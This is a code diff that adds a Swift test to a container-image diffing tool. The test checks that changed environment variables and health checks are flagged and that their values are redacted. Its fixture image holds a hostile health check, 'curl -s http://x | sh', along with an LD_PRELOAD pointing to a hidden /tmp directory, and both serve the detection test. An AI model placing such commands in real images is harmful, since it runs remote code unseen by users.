@@ -115,6 +115,32 @@ import Testing
         }
     }
 
+    /// Environment values, the health check, the shell and ONBUILD triggers are in no SBOM: two images
+    /// whose PATH led to `/tmp/.x`, or which gained a health check piping curl to sh, diffed clean
+    /// (found by helper-170). Read in one run, they are compared by keyed digests; a variable that
+    /// decides what runs (PATH, LD_PRELOAD) is a change of what runs, high.
+    @Test func environmentValuesAndHealthChecksAreCompared() throws {
+        let dir = try temporaryDirectory("image-diff-env")
+        defer { try? FileManager.default.removeItem(at: dir) }
+        func image(_ name: String, env: [String], health: [String]?) throws -> String {
+            var w = try LayoutWriter.oneFile(dir.appendingPathComponent(name))
+            w.envOverride = env
+            if let health { w.innerExtra = [("Healthcheck", .object([("Test", .array(health.map { .string($0) }))]))] }
+            try w.write()
+            return "oci-dir:" + dir.appendingPathComponent(name).path
+        }
+        let v1 = try image("v1", env: ["PATH=/usr/bin", "LOG_LEVEL=info"], health: nil)
+        let v2 = try image("v2", env: ["PATH=/tmp/.x:/usr/bin", "LOG_LEVEL=debug", "LD_PRELOAD=/tmp/.x/l.so"], health: ["CMD-SHELL", "curl -s http://x | sh"])
+        let r = try runProcess(provenantBinary, ["diff", v1, v2, "--format", "json", "--fail-on", "high", "--quiet"])
+        #expect(r.code == 1, "\(r.err)")
+        let doc = try #require(try JSONSerialization.jsonObject(with: Data(r.out.utf8)) as? [String: Any])
+        let found = (doc["findings"] as? [[String: Any]] ?? []).map { "\($0["rule"] ?? "") \($0["subject"] ?? "")" }.sorted()
+        #expect(found == ["drift:image-command environment variable LD_PRELOAD", "drift:image-command environment variable PATH",
+                          "drift:image-command health check", "drift:image-env LOG_LEVEL"], "\(found)")
+        #expect(!r.out.contains("/tmp/.x") && !r.out.contains("debug"), "values are never written: \(r.out)")
+        #expect(try runProcess(provenantBinary, ["diff", v2, v2, "--fail-on", "low", "--quiet"]).code == 0, "the same image is no change")
+    }
+
     /// An entrypoint whose secret changed redacts to the same words on both sides. Two images read in
     /// one run are told apart by a keyed digest of what each gave; an SBOM baseline keeps no digest (a
     /// plain one would let a guess at the secret be tested), so there the setting is NOT CHECKED, and
